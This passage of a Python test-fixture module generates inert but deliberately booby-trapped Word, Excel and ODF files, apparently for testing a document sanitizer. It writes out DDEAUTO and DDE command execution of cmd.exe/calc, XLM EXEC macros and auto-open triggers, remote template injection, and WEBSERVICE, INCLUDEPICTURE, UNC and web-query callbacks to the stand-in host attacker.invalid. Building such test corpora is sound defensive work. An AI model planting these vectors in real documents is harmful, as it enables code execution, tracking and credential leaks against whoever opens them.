"""Script-generated office corpus: booby-trapped but inert documents plus clean ones.

Everything is built from XML strings with zipfile (and cfb_office for OLE containers), so the
corpus documents exactly which hiding places are exercised. Nothing here can run: the macros
are never executed by anything in the test suite, the remote addresses are reserved names."""

from __future__ import annotations

import io
import struct
import zipfile
from pathlib import Path

from PIL import Image, ImageDraw

from tests.engine.cfb_office import (
    AUTO_MACRO,
    ole_package_object,
    vba_project,
    vba_project_bin,
    write_cfb,
)

R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PR = "http://schemas.openxmlformats.org/package/2006/relationships"
MSR = "http://schemas.microsoft.com/office/2006/relationships"
EVIL = "http://attacker.invalid"

NS_W = ('xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
        f'xmlns:r="{R}" '
        'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
        'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
        'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture" '
        'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"')


def png_bytes(w: int = 200, h: int = 100, color=(30, 90, 200), exif_gps: bool = False) -> bytes:
    im = Image.new("RGB", (w, h), (255, 255, 255))
    d = ImageDraw.Draw(im)
    d.rectangle([10, 10, w - 10, h - 10], fill=color)
    d.ellipse([w // 3, h // 4, w // 3 + 40, h // 4 + 40], fill=(240, 200, 0))
    out = io.BytesIO()
    im.save(out, "PNG")
    return out.getvalue()


def jpeg_with_gps() -> bytes:
    im = Image.new("RGB", (120, 80), (200, 40, 40))
    exif = Image.Exif()
    exif[0x010F] = "SecretCameraMaker"
    exif.get_ifd(0x8825)[2] = (51.0, 30.0, 0.0)  # GPSLatitude
    out = io.BytesIO()
    im.save(out, "JPEG", exif=exif.tobytes(), quality=90)
    return out.getvalue()


def _zip(parts: dict[str, bytes | str]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in parts.items():
            zf.writestr(name, data.encode() if isinstance(data, str) else data)
    return buf.getvalue()


def _rels(rels: list[tuple]) -> str:
    items = []
    for rel in rels:
        rid, rtype, target = rel[:3]
        mode = ' TargetMode="External"' if len(rel) > 3 and rel[3] else ""
        items.append(f'<Relationship Id="{rid}" Type="{rtype}" Target="{target}"{mode}/>')
    return f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PR}">{"".join(items)}</Relationships>'


def _types(defaults: dict[str, str], overrides: dict[str, str]) -> str:
    d = "".join(f'<Default Extension="{e}" ContentType="{c}"/>' for e, c in defaults.items())
    o = "".join(f'<Override PartName="{p}" ContentType="{c}"/>' for p, c in overrides.items())
    return ('<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.'
            f'org/package/2006/content-types">{d}{o}</Types>')


CORE = ('<?xml version="1.0" encoding="UTF-8"?><cp:coreProperties xmlns:cp="http://schemas.'
        'openxmlformats.org/package/2006/metadata/core-properties" xmlns:dc="http://purl.org/'
        'dc/elements/1.1/"><dc:creator>Secret Author</dc:creator><dc:title>Quarterly</dc:title>'
        '</cp:coreProperties>')
APP = ('<?xml version="1.0" encoding="UTF-8"?><Properties xmlns="http://schemas.openxmlformats.'
       'org/officeDocument/2006/extended-properties"><Company>Secret Corp</Company></Properties>')
CUSTOM = ('<?xml version="1.0" encoding="UTF-8"?><Properties xmlns="http://schemas.openxmlformats'
          '.org/officeDocument/2006/custom-properties" xmlns:vt="http://schemas.openxmlformats.org'
          '/officeDocument/2006/docPropsVTypes"><property fmtid="{D5CDD505-2E9C-101B-9397-'
          '08002B2CF9AE}" pid="2" name="TrackingId"><vt:lpwstr>SECRET-CUSTOM-PROP</vt:lpwstr>'
          '</property></Properties>')
CT_BASE = {"rels": "application/vnd.openxmlformats-package.relationships+xml",
           "xml": "application/xml", "png": "image/png", "jpeg": "image/jpeg",
           "bin": "application/vnd.openxmlformats-officedocument.oleObject"}
ROOT_RELS = [("rId1", f"{R}/officeDocument", "word/document.xml"),
             ("rId2", ("http://schemas.openxmlformats.org/package/2006/relationships/metadata/"
                       "core-properties"), "docProps/core.xml"),
             ("rId3", f"{R}/extended-properties", "docProps/app.xml")]
OV_PROPS = {"/docProps/core.xml": "application/vnd.openxmlformats-package.core-properties+xml",
            "/docProps/app.xml":
                "application/vnd.openxmlformats-officedocument.extended-properties+xml"}
WML = "application/vnd.openxmlformats-officedocument.wordprocessingml"

STYLES = (f'<?xml version="1.0" encoding="UTF-8"?><w:styles {NS_W}><w:docDefaults><w:rPrDefault>'
          '<w:rPr><w:rFonts w:ascii="Liberation Serif" w:hAnsi="Liberation Serif"/><w:sz w:val="24"/>'
          '</w:rPr></w:rPrDefault></w:docDefaults><w:style w:type="table" w:styleId="Grid">'
          '<w:name w:val="Grid"/><w:tblPr><w:tblBorders><w:top w:val="single" w:sz="4"/>'
          '<w:left w:val="single" w:sz="4"/><w:bottom w:val="single" w:sz="4"/><w:right '
          'w:val="single" w:sz="4"/><w:insideH w:val="single" w:sz="4"/><w:insideV '
          'w:val="single" w:sz="4"/></w:tblBorders></w:tblPr></w:style></w:styles>')


def _p(text: str) -> str:
    return f"<w:p><w:r><w:t xml:space=\"preserve\">{text}</w:t></w:r></w:p>"


def _inline_image(rid: str, attr: str = "r:embed", pid: int = 1) -> str:
    return (f'<w:p><w:r><w:drawing><wp:inline><wp:extent cx="1905000" cy="952500"/>'
            f'<wp:docPr id="{pid}" name="Picture {pid}"/><a:graphic><a:graphicData uri="http://'
            'schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr '
            f'id="{pid}" name="img{pid}.png"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip '
            f'{attr}="{rid}"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr>'
            '<a:xfrm><a:off x="0" y="0"/><a:ext cx="1905000" cy="952500"/></a:xfrm><a:prstGeom '
            'prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData></a:graphic>'
            '</wp:inline></w:drawing></w:r></w:p>')


TABLE = ('<w:tbl><w:tblPr><w:tblStyle w:val="Grid"/><w:tblW w:w="5000" w:type="pct"/></w:tblPr>'
         '<w:tblGrid><w:gridCol w:w="3000"/><w:gridCol w:w="3000"/></w:tblGrid>'
         + "".join(f'<w:tr><w:tc><w:tcPr><w:tcW w:w="3000" w:type="dxa"/></w:tcPr>{_p(f"Row {i} name")}'
                   f'</w:tc><w:tc><w:tcPr><w:tcW w:w="3000" w:type="dxa"/></w:tcPr>{_p(str(i * 17))}'
                   '</w:tc></w:tr>' for i in range(1, 5)) + "</w:tbl>")

SECT = ('<w:sectPr><w:headerReference w:type="default" r:id="rIdHdr"/><w:pgSz w:w="11906" '
        'w:h="16838"/><w:pgMar w:top="1440" w:right="1440" w:bottom="1440" w:left="1440" '
        'w:header="708" w:footer="708" w:gutter="0"/></w:sectPr>')
HEADER = (f'<?xml version="1.0" encoding="UTF-8"?><w:hdr {NS_W}><w:p><w:r><w:t xml:space="preserve">'
          'Page </w:t></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText '
          'xml:space="preserve"> PAGE </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/>'
          '</w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:hdr>')


def docx(body: str, *, main_ct: str = f"{WML}.document.main+xml", doc_rels=(),
         parts: dict | None = None, overrides: dict | None = None, root_rels=(),
         settings: str | None = None) -> bytes:
    doc = f'<?xml version="1.0" encoding="UTF-8"?><w:document {NS_W}><w:body>{body}{SECT}</w:body></w:document>'
    rels = [("rIdHdr", f"{R}/header", "header1.xml"), ("rIdSty", f"{R}/styles", "styles.xml"),
            ("rIdImg", f"{R}/image", "media/image1.png"), *doc_rels]
    ov = {"/word/document.xml": main_ct, "/word/header1.xml": f"{WML}.header+xml",
          "/word/styles.xml": f"{WML}.styles+xml", **OV_PROPS, **(overrides or {})}
    all_parts: dict[str, bytes | str] = {
        "word/document.xml": doc, "word/header1.xml": HEADER, "word/styles.xml": STYLES,
        "word/media/image1.png": png_bytes(), "docProps/core.xml": CORE, "docProps/app.xml": APP,
    }
    if settings is not None:
        rels.append(("rIdSet", f"{R}/settings", "settings.xml"))
        ov["/word/settings.xml"] = f"{WML}.settings+xml"
        all_parts["word/settings.xml"] = settings
    all_parts.update(parts or {})
    all_parts["word/_rels/document.xml.rels"] = _rels(rels)
    all_parts["_rels/.rels"] = _rels([*ROOT_RELS, *root_rels])
    all_parts = {"[Content_Types].xml": _types(CT_BASE, ov), **all_parts}
    return _zip(all_parts)


def clean_docx() -> bytes:
    body = (_p("Sanitas clean document: the quick brown fox jumps over the lazy dog.")
            + _p("Second paragraph with more words to render on the page.") + TABLE
            + _inline_image("rIdImg") + _p("After the picture."))
    return docx(body)


def _complex_field(instr_parts: list[str], result: str) -> str:
    instr = "".join(f'<w:r><w:instrText xml:space="preserve">{t}</w:instrText></w:r>'
                    for t in instr_parts)
    return (f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{instr}<w:r><w:fldChar '
            f'w:fldCharType="separate"/></w:r><w:r><w:t>{result}</w:t></w:r><w:r><w:fldChar '
            'w:fldCharType="end"/></w:r></w:p>')


def hostile_docm() -> bytes:
    body = (_p("Hostile document body text.")
            # DDEAUTO as a simple field and as a complex field split over runs
            + '<w:p><w:fldSimple w:instr=\' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" \'>'
              '<w:r><w:t>dde-simple-result</w:t></w:r></w:fldSimple></w:p>'
            + _complex_field([" DD", "E c:\\\\windows\\\\system32\\\\cmd.exe", ' "/c calc" '],
                             "dde-complex-result")
            + _complex_field([f' INCLUDEPICTURE "{EVIL}/track.png" \\d '], "includepicture-result")
            + _complex_field([" PAGE "], "7")
            + _complex_field([f' HYPERLINK "{EVIL}/ok-link" '], "http-field-link")
            + _complex_field([' HYPERLINK "\\\\\\\\attacker.invalid\\\\share\\\\x" '], "unc-link")
            # embedded OLE package with a preview, and an ActiveX control
            + '<w:p><w:r><w:object w:dxaOrig="1440" w:dyaOrig="720"><v:shape id="_x0000_i1025" '
              'type="#_x0000_t75" style="width:72pt;height:36pt" o:ole=""><v:imagedata r:id="rIdImg" '
              'o:title=""/></v:shape><o:OLEObject Type="Embed" ProgID="Package" ShapeID="_x0000_i1025" '
              'DrawAspect="Icon" ObjectID="_1" r:id="rIdOle"/></w:object></w:r></w:p>'
            + '<w:p><w:r><w:object w:dxaOrig="1440" w:dyaOrig="720"><v:shape id="_x0000_i1026" '
              'type="#_x0000_t75" style="width:72pt;height:36pt"><v:imagedata r:id="rIdImg" o:title=""/>'
              '</v:shape><w:control r:id="rIdAx" w:name="CommandButton1" w:shapeid="_x0000_i1026"/>'
              '</w:object></w:r></w:p>'
            + _inline_image("rIdExtImg", "r:link", 2)
            + '<w:p><w:hyperlink r:id="rIdLink"><w:r><w:t>web link</w:t></w:r></w:hyperlink></w:p>'
            + '<w:p><w:hyperlink r:id="rIdFileLink"><w:r><w:t>file link</w:t></w:r></w:hyperlink></w:p>'
            + '<w:p><w:r><w:fldChar w:fldCharType="begin"><w:ffData><w:name w:val="Text1"/>'
              '<w:entryMacro w:val="AutoOpen"/><w:exitMacro w:val="AutoOpen"/></w:ffData></w:fldChar>'
              '</w:r><w:r><w:instrText> FORMTEXT </w:instrText></w:r><w:r><w:fldChar '
              'w:fldCharType="separate"/></w:r><w:r><w:t>form</w:t></w:r><w:r><w:fldChar '
              'w:fldCharType="end"/></w:r></w:p>'
            + '<w:customXml w:element="secret"><w:p><w:r><w:t>custom xml wrapped</w:t></w:r></w:p></w:customXml>'
            + '<w:altChunk r:id="rIdAlt"/>'
            + '<w:subDoc r:id="rIdSub"/>')
    settings = (f'<?xml version="1.0" encoding="UTF-8"?><w:settings {NS_W}><w:attachedTemplate '
                'r:id="rIdTpl"/><w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataSource '
                'r:id="rIdMm"/></w:mailMerge><w:docVars><w:docVar w:name="payload" w:val="SECRETVAR"/>'
                '</w:docVars></w:settings>')
    settings_rels = _rels([
        ("rIdTpl", f"{R}/attachedTemplate", f"{EVIL}/template.dotm", True),
        ("rIdMm", f"{R}/mailMergeSource", "file:///C:/secret.mdb", True)])
    vba_rels = _rels([("rId1", f"{MSR}/wordVbaData", "vbaData.xml")])
    doc_rels = [
        ("rIdVba", f"{MSR}/vbaProject", "vbaProject.bin"),
        ("rIdKey", f"{MSR}/keyMapCustomizations", "customizations.xml"),
        ("rIdTb", f"{MSR}/attachedToolbars", "attachedToolbars.bin"),
        ("rIdOle", f"{R}/oleObject", "embeddings/oleObject1.bin"),
        ("rIdAx", f"{R}/control", "activeX/activeX1.xml"),
        ("rIdExtImg", f"{R}/image", f"{EVIL}/beacon.png", True),
        ("rIdLink", f"{R}/hyperlink", "https://example.org/page", True),
        ("rIdFileLink", f"{R}/hyperlink", "file://attacker.invalid/share/doc.docx", True),
        ("rIdAlt", f"{R}/aFChunk", "afchunk.htm"),
        ("rIdSub", f"{R}/subDocument", f"{EVIL}/sub.docx", True),
        ("rIdCx", f"{R}/customXml", "../customXml/item1.xml"),
    ]
    parts = {
        "word/_rels/settings.xml.rels": settings_rels,
        "word/vbaProject.bin": vba_project_bin(),
        "word/_rels/vbaProject.bin.rels": vba_rels,
        "word/vbaData.xml": '<?xml version="1.0"?><wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>',
        "word/customizations.xml": '<?xml version="1.0"?><wne:tcg xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"><wne:keymaps><wne:keymap wne:kcmPrimary="0441"><wne:macro wne:macroName="PROJECT.MODULE1.AUTOOPEN"/></wne:keymap></wne:keymaps></wne:tcg>',
        "word/attachedToolbars.bin": b"toolbar-data",
        "word/embeddings/oleObject1.bin": ole_package_object(),
        "word/activeX/activeX1.xml": '<?xml version="1.0"?><ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}" ax:persistence="persistStreamInit" r:id="rId1" xmlns:r="' + R + '"/>',
        "word/activeX/_rels/activeX1.xml.rels": _rels([("rId1", f"{MSR}/activeXControlBinary", "activeX1.bin")]),
        "word/activeX/activeX1.bin": b"activex-binary",
        "word/afchunk.htm": "<html><script>alert(1)</script>chunk</html>",
        "customXml/item1.xml": "<secret>SECRET-CUSTOM-XML</secret>",
        "docProps/custom.xml": CUSTOM,
        "word/hidden-orphan.bin": vba_project_bin(),
    }
    overrides = {
        "/word/vbaData.xml": "application/vnd.ms-word.vbaData+xml",
        "/word/customizations.xml": "application/vnd.ms-word.keyMapCustomizations+xml",
        "/word/vbaProject.bin": "application/vnd.ms-office.vbaProject",
        "/word/activeX/activeX1.xml": "application/vnd.ms-office.activeX+xml",
        "/word/activeX/activeX1.bin": "application/vnd.ms-office.activeX",
        "/word/afchunk.htm": "text/html",
        "/docProps/custom.xml": "application/vnd.openxmlformats-officedocument.custom-properties+xml",
    }
    root_rels = [("rIdCust", f"{R}/custom-properties", "docProps/custom.xml"),
                 ("rIdUi", f"{MSR}/ui/extensibility", "customUI/customUI.xml")]
    parts["customUI/customUI.xml"] = ('<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" '
                                      'onLoad="AutoOpen"/>')
    return docx(body, main_ct="application/vnd.ms-word.document.macroEnabled.main+xml",
                doc_rels=doc_rels, parts=parts, overrides=overrides, root_rels=root_rels,
                settings=settings)


# ------------------------------------------------------------------------------------ Excel

SML = "application/vnd.openxmlformats-officedocument.spreadsheetml"
NS_S = (f'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="{R}" '
        'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" '
        'xmlns:x14="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main"')
XL_STYLES = (f'<?xml version="1.0" encoding="UTF-8"?><styleSheet {NS_S}><fonts count="1"><font>'
             '<sz val="11"/><name val="Liberation Sans"/></font></fonts><fills count="2"><fill>'
             '<patternFill patternType="none"/></fill><fill><patternFill patternType="gray125"/>'
             '</fill></fills><borders count="1"><border><left/><right/><top/><bottom/><diagonal/>'
             '</border></borders><cellStyleXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" '
             'borderId="0"/></cellStyleXfs><cellXfs count="1"><xf numFmtId="0" fontId="0" '
             'fillId="0" borderId="0" xfId="0"/></cellXfs></styleSheet>')


def _sheet(rows: str, tail: str = "") -> str:
    return (f'<?xml version="1.0" encoding="UTF-8"?><worksheet {NS_S}><sheetData>{rows}</sheetData>'
            f'{tail}</worksheet>')


CLEAN_ROWS = "".join(
    f'<row r="{i}"><c r="A{i}" t="inlineStr"><is><t>Item {i}</t></is></c><c r="B{i}"><v>{i * 3}</v></c>'
    f'<c r="C{i}"><f>B{i}*2</f><v>{i * 6}</v></c></row>' for i in range(1, 11)) + (
    '<row r="11"><c r="A11" t="inlineStr"><is><t>Total</t></is></c><c r="B11"><f>SUM(B1:B10)</f>'
    '<v>165</v></c></row>')


def xlsx(sheets: list[tuple[str, str, str, str]], *, main_ct=f"{SML}.sheet.main+xml",
         workbook_extra: str = "", defined_names: str = "", wb_rels=(), parts=None,
         overrides=None, root_rels=()) -> bytes:
    """sheets: (name, rel type, part path under xl/, xml)."""
    sheet_el = "".join(f'<sheet name="{n}" sheetId="{i + 1}" r:id="rIdS{i}"/>'
                       for i, (n, _t, _p, _x) in enumerate(sheets))
    dn = f"<definedNames>{defined_names}</definedNames>" if defined_names else ""
    wb = (f'<?xml version="1.0" encoding="UTF-8"?><workbook {NS_S}><bookViews><workbookView '
          f'activeTab="{len(sheets) - 1}"/></bookViews><sheets>{sheet_el}</sheets>{dn}{workbook_extra}</workbook>')
    rels = [(f"rIdS{i}", t, p) for i, (_n, t, p, _x) in enumerate(sheets)]
    rels.append(("rIdSty", f"{R}/styles", "styles.xml"))
    rels.extend(wb_rels)
    ov = {"/xl/workbook.xml": main_ct, "/xl/styles.xml": f"{SML}.styles+xml", **OV_PROPS}
    all_parts: dict[str, bytes | str] = {"xl/workbook.xml": wb, "xl/styles.xml": XL_STYLES,
                                         "docProps/core.xml": CORE, "docProps/app.xml": APP}
    for _n, t, p, x in sheets:
        all_parts["xl/" + p] = x
        ct = (f"{SML}.worksheet+xml" if t.endswith("/worksheet")
              else "application/vnd.ms-excel.macrosheet+xml")
        ov["/xl/" + p] = ct
    all_parts.update(parts or {})
    ov.update(overrides or {})
    all_parts["xl/_rels/workbook.xml.rels"] = _rels(rels)
    rr = [(a, b, c.replace("word/document.xml", "xl/workbook.xml")) for a, b, c in ROOT_RELS]
    all_parts["_rels/.rels"] = _rels([*rr, *root_rels])
    return _zip({"[Content_Types].xml": _types(CT_BASE, ov), **all_parts})


def clean_xlsx() -> bytes:
    return xlsx([("Data", f"{R}/worksheet", "worksheets/sheet1.xml", _sheet(CLEAN_ROWS))])


def hostile_xlsm() -> bytes:
    macro_sheet = ('<?xml version="1.0" encoding="UTF-8"?><xm:macrosheet xmlns:xm="http://schemas.'
                   'microsoft.com/office/excel/2006/main" xmlns="http://schemas.openxmlformats.org/'
                   'spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"><f>EXEC("calc.exe")</f>'
                   '</c></row><row r="2"><c r="A2"><f>HALT()</f></c></row></sheetData></xm:macrosheet>')
    rows = CLEAN_ROWS + (
        '<row r="12"><c r="A12"><f>cmd|\' /c calc.exe\'!A0</f><v>0</v></c>'
        '<c r="B12"><f>[1]Sheet1!$A$1</f><v>42</v></c>'
        '<c r="C12" t="str"><f>WEBSERVICE("http://attacker.invalid/x")</f><v>cached</v></c>'
        '<c r="D12" t="str"><f>"A|B"&amp;"[1]"</f><v>A|B[1]</v></c></row>')
    tail = ('<hyperlinks><hyperlink ref="A1" r:id="rIdH1"/><hyperlink ref="A2" r:id="rIdH2"/></hyperlinks>'
            '<pageMargins left="0.7" right="0.7" top="0.75" bottom="0.75" header="0.3" footer="0.3"/>'
            '<pageSetup orientation="portrait" r:id="rIdPr"/><legacyDrawing r:id="rIdVml"/>'
            '<oleObjects><mc:AlternateContent><mc:Choice Requires="x14"><oleObject progId="Package" '
            'shapeId="1025" r:id="rIdOle"><objectPr defaultSize="0" r:id="rIdImg"><anchor moveWithCells="1">'
            '<from><xdr:col xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing">3</xdr:col>'
            '</from></anchor></objectPr></oleObject></mc:Choice><mc:Fallback><oleObject progId="Package" '
            'shapeId="1025" r:id="rIdOle"/></mc:Fallback></mc:AlternateContent></oleObjects>'
            '<controls><control shapeId="1026" r:id="rIdAx" name="CommandButton1"/></controls>'
            '<tableParts count="1"><tablePart r:id="rIdTbl"/></tableParts>')
    sheet_rels = _rels([
        ("rIdH1", f"{R}/hyperlink", "https://example.org/", True),
        ("rIdH2", f"{R}/hyperlink", "file:///\\\\attacker.invalid\\share", True),
        ("rIdPr", f"{R}/printerSettings", "../printerSettings/printerSettings1.bin"),
        ("rIdVml", f"{R}/vmlDrawing", "../drawings/vmlDrawing1.vml"),
        ("rIdOle", f"{R}/oleObject", "../embeddings/oleObject1.bin"),
        ("rIdImg", f"{R}/image", "../media/image1.png"),
        ("rIdAx", f"{R}/control", "../activeX/activeX1.xml"),
        ("rIdTbl", f"{R}/table", "../tables/table1.xml"),
    ])
    vml = ('<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" '
           'xmlns:x="urn:schemas-microsoft-com:office:excel"><v:shape id="_x0000_s1027" type="#_x0000_t201">'
           '<v:imagedata src="\\\\attacker.invalid\\share\\img.png"/><x:ClientData ObjectType="Button">'
           '<x:FmlaMacro>[0]!Auto_Open</x:FmlaMacro></x:ClientData></v:shape></xml>')
    table = ('<?xml version="1.0" encoding="UTF-8"?><table xmlns="http://schemas.openxmlformats.org/'
             'spreadsheetml/2006/main" id="1" name="Query1" displayName="Query1" ref="E1:E3" '
             'tableType="queryTable" totalsRowShown="0"><autoFilter ref="E1:E3"/><tableColumns count="1">'
             '<tableColumn id="1" name="Col" queryTableFieldId="1"/></tableColumns></table>')
    rows_with_table = rows.replace('<row r="1">', '<row r="1"><c r="E1" t="inlineStr"><is><t>Col</t></is></c>', 1)
    ext_link = ('<?xml version="1.0" encoding="UTF-8"?><externalLink xmlns="http://schemas.openxmlformats.org/'
                'spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic=" /c calc.exe"><ddeItems>'
                '<ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>')
    parts = {
        "xl/worksheets/_rels/sheet2.xml.rels": sheet_rels,
        "xl/printerSettings/printerSettings1.bin": b"\x00printer-devmode-SECRET-PRINTER",
        "xl/drawings/vmlDrawing1.vml": vml,
        "xl/embeddings/oleObject1.bin": ole_package_object(),
        "xl/media/image1.png": png_bytes(),
        "xl/activeX/activeX1.xml": '<?xml version="1.0"?><ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}"/>',
        "xl/tables/table1.xml": table,
        "xl/tables/_rels/table1.xml.rels": _rels([("rId1", f"{R}/queryTable", "../queryTables/queryTable1.xml")]),
        "xl/queryTables/queryTable1.xml": '<?xml version="1.0"?><queryTable xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" name="Q" connectionId="1"/>',
        "xl/connections.xml": '<?xml version="1.0"?><connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1" name="Q" type="4" refreshOnLoad="1"><webPr url="http://attacker.invalid/data"/></connection></connections>',
        "xl/externalLinks/externalLink1.xml": ext_link,
        "xl/vbaProject.bin": vba_project_bin(),
        "customXml/item1.xml": "<secret>SECRET-CUSTOM-XML</secret>",
        "docProps/custom.xml": CUSTOM,
    }
    overrides = {
        "/xl/drawings/vmlDrawing1.vml": "application/vnd.openxmlformats-officedocument.vmlDrawing",
        "/xl/tables/table1.xml": f"{SML}.table+xml",
        "/xl/queryTables/queryTable1.xml": f"{SML}.queryTable+xml",
        "/xl/connections.xml": f"{SML}.connections+xml",
        "/xl/externalLinks/externalLink1.xml": f"{SML}.externalLink+xml",
        "/xl/vbaProject.bin": "application/vnd.ms-office.vbaProject",
        "/xl/printerSettings/printerSettings1.bin": f"{SML}.printerSettings",
        "/docProps/custom.xml": "application/vnd.openxmlformats-officedocument.custom-properties+xml",
    }
    wb_rels = [("rIdVba", f"{MSR}/vbaProject", "vbaProject.bin"),
               ("rIdCon", f"{R}/connections", "connections.xml"),
               ("rIdExt", f"{R}/externalLink", "externalLinks/externalLink1.xml"),
               ("rIdCx", f"{R}/customXml", "../customXml/item1.xml")]
    names = ('<definedName name="_xlnm.Auto_Open" hidden="1">Macro1!$A$1</definedName>'
             '<definedName name="auto_open_x">\'Macro1\'!$A$2</definedName>'
             '<definedName name="Evil" function="1" xlm="1">Macro1!$A$1</definedName>'
             '<definedName name="_xlnm.Print_Area" localSheetId="1">Data!$A$1:$C$11</definedName>'
             '<definedName name="Remote">[1]Sheet1!$A$1</definedName>'
             '<definedName name="Keep">Data!$B$1:$B$10</definedName>')
    return xlsx([("Macro1", f"{MSR}/xlMacrosheet", "macrosheets/sheet1.xml", macro_sheet),
                 ("Data", f"{R}/worksheet", "worksheets/sheet2.xml",
                  _sheet(rows_with_table, tail))],
                main_ct="application/vnd.ms-excel.sheet.macroEnabled.main+xml",
                workbook_extra='<externalReferences><externalReference r:id="rIdExt"/></externalReferences>',
                defined_names=names, wb_rels=wb_rels, parts=parts, overrides=overrides,
                root_rels=[("rIdCust", f"{R}/custom-properties", "docProps/custom.xml")])


# ------------------------------------------------------------------------------------- ODF

ODF_NS = ('xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
          'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
          'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
          'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
          'xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" '
          'xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0" '
          'xmlns:fo="urn:oasis:names:tc:opendocument:xmlns:xsl-fo-compatible:1.0" '
          'xmlns:xlink="http://www.w3.org/1999/xlink" '
          'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
          'xmlns:presentation="urn:oasis:names:tc:opendocument:xmlns:presentation:1.0" '
          'xmlns:form="urn:oasis:names:tc:opendocument:xmlns:form:1.0" '
          'xmlns:dc="http://purl.org/dc/elements/1.1/" '
          'xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0" '
          'xmlns:ooo="http://openoffice.org/2004/office" office:version="1.2"')
MANIFEST_NS = "urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"


def odf(mimetype: str, body: str, *, scripts: str = "", files: dict | None = None,
        manifest_extra: dict | None = None, styles: str = "") -> bytes:
    content = (f'<?xml version="1.0" encoding="UTF-8"?><office:document-content {ODF_NS}>{scripts}'
               f'<office:automatic-styles>{styles}</office:automatic-styles><office:body>{body}</office:body>'
               '</office:document-content>')
    meta = (f'<?xml version="1.0" encoding="UTF-8"?><office:document-meta {ODF_NS}><office:meta>'
            '<dc:creator>Secret Author</dc:creator><meta:generator>Evil/1.0</meta:generator>'
            '</office:meta></office:document-meta>')
    styles_xml = (f'<?xml version="1.0" encoding="UTF-8"?><office:document-styles {ODF_NS}>'
                  '<office:styles/></office:document-styles>')
    files = {"content.xml": content, "meta.xml": meta, "styles.xml": styles_xml, **(files or {})}
    entries = {"/": mimetype, "content.xml": "text/xml", "meta.xml": "text/xml",
               "styles.xml": "text/xml", **(manifest_extra or {})}
    man = "".join(f'<manifest:file-entry manifest:full-path="{p}" manifest:media-type="{t}"'
                  + (' manifest:version="1.2"' if p == "/" else "") + "/>"
                  for p, t in entries.items())
    manifest = (f'<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="{MANIFEST_NS}" '
                f'manifest:version="1.2">{man}</manifest:manifest>')
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr(zipfile.ZipInfo("mimetype"), mimetype, compress_type=zipfile.ZIP_STORED)
        for name, data in files.items():
            zf.writestr(name, data.encode() if isinstance(data, str) else data)
        zf.writestr("META-INF/manifest.xml", manifest)
    return buf.getvalue()


ODT = "application/vnd.oasis.opendocument.text"
ODP = "application/vnd.oasis.opendocument.presentation"
ODS = "application/vnd.oasis.opendocument.spreadsheet"


def _odt_image(href: str, name: str = "img") -> str:
    return (f'<text:p><draw:frame draw:name="{name}" text:anchor-type="as-char" svg:width="5cm" '
            f'svg:height="2.5cm"><draw:image xlink:href="{href}" xlink:type="simple" '
            'xlink:show="embed" xlink:actuate="onLoad"/></draw:frame></text:p>')


def clean_odt() -> bytes:
    rows = "".join(f"<table:table-row><table:table-cell><text:p>Row {i}</text:p></table:table-cell>"
                   f"<table:table-cell><text:p>{i * 17}</text:p></table:table-cell></table:table-row>"
                   for i in range(1, 5))
    body = ('<office:text><text:p>Sanitas clean ODF text: the quick brown fox.</text:p>'
            '<text:p>Visit <text:a xlink:type="simple" xlink:href="https://example.org/">example</text:a>.</text:p>'
            '<table:table table:name="T1"><table:table-column table:number-columns-repeated="2"/>'
